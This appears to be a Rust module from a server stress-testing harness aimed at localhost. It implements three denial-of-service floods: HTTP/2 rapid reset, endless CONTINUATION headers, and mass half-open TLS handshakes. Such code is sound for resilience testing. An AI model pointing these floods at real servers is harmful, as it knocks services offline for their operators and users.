//! Much at once: requests that are taken back, headers without end, handshakes that nobody means.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConnection;
use rustls_pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::MissedTickBehavior;

use super::client::stream_from;
use super::command::Trouble;
use super::frames::{self, HELLO};
use super::kinds::Count;
use super::target::Address;

/// Where these clients come from.
const FROM: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
/// How many connections flood at the same time.
const CONNECTIONS: usize = 8;
/// How many requests, or frames, are sent with one write.
const AT_ONCE: u32 = 50;
/// How long a connection that was refused waits before it comes again.
const AGAIN: Duration = Duration::from_millis(5);
const HANDSHAKES_A_SECOND: u32 = 5000;
const TICK: Duration = Duration::from_millis(10);

/// Requests over HTTP/2 that are taken back at once.
pub(super) async fn rapid_reset(address: Address, count: Count) -> Result<(), Trouble> {
    flood(address.plain, count, |round, out| {
        for index in 0..AT_ONCE {
            let stream = 1 + 2 * (round * AT_ONCE + index);
            frames::request_and_reset(stream, out);
        }
    })
    .await
}

/// Headers over HTTP/2 that do not end.
pub(super) async fn continuation(address: Address, count: Count) -> Result<(), Trouble> {
    flood(address.plain, count, |round, out| {
        if round == 0 {
            frames::endless_header(1, out);
        }
        for _ in 0..AT_ONCE {
            frames::continuation(1, out);
        }
    })
    .await
}

/// Some connections that send what `write` makes, and come again when they are thrown out.
async fn flood(port: u16, count: Count, write: fn(u32, &mut Vec<u8>)) -> Result<(), Trouble> {
    let mut clients = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let count = count.clone();
        clients.spawn(async move {
            loop {
                // However it ends: the next one is as bad.
                one(port, &count, write).await.ok();
                tokio::time::sleep(AGAIN).await;
            }
        });
    }
    while clients.join_next().await.is_some() {}
    Ok(())
}

async fn one(port: u16, count: &Count, write: fn(u32, &mut Vec<u8>)) -> Result<(), Trouble> {
    let stream = stream_from(FROM, port).await?;
    let (mut from, mut to) = stream.into_split();
    let writing = async {
        to.write_all(HELLO).await?;
        let mut frames = Vec::new();
        for round in 0.. {
            frames.clear();
            write(round, &mut frames);
            to.write_all(&frames).await?;
            count.add(u64::from(AT_ONCE));
            tokio::task::yield_now().await;
        }
        Ok(())
    };
    let reading = async {
        let mut read = vec![0; 16 << 10];
        while from.read(&mut read).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        done = writing => done,
        done = reading => done,
    }
}

/// Handshakes of which only the first word is said.
pub(super) async fn handshakes(address: Address, count: Count) -> Result<(), Trouble> {
    let name = ServerName::try_from("localhost")?;
    let mut client = ClientConnection::new(Arc::clone(&address.http1), name)?;
    let mut hello = Vec::new();
    client.write_tls(&mut hello)?;
    let hello = Arc::new(hello);
    let mut ticks = tokio::time::interval(TICK);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Skip);
    let each_tick = HANDSHAKES_A_SECOND / 100;
    loop {
        ticks.tick().await;
        for _ in 0..each_tick {
            let (hello, count, port) = (Arc::clone(&hello), count.clone(), address.tls);
            tokio::spawn(async move { start_and_drop(port, &hello, &count).await });
        }
    }
}

async fn start_and_drop(port: u16, hello: &[u8], count: &Count) -> Result<(), Trouble> {
    let mut stream: TcpStream = stream_from(FROM, port).await?;
    stream.write_all(hello).await?;
    count.add(1);
    Ok(())
}
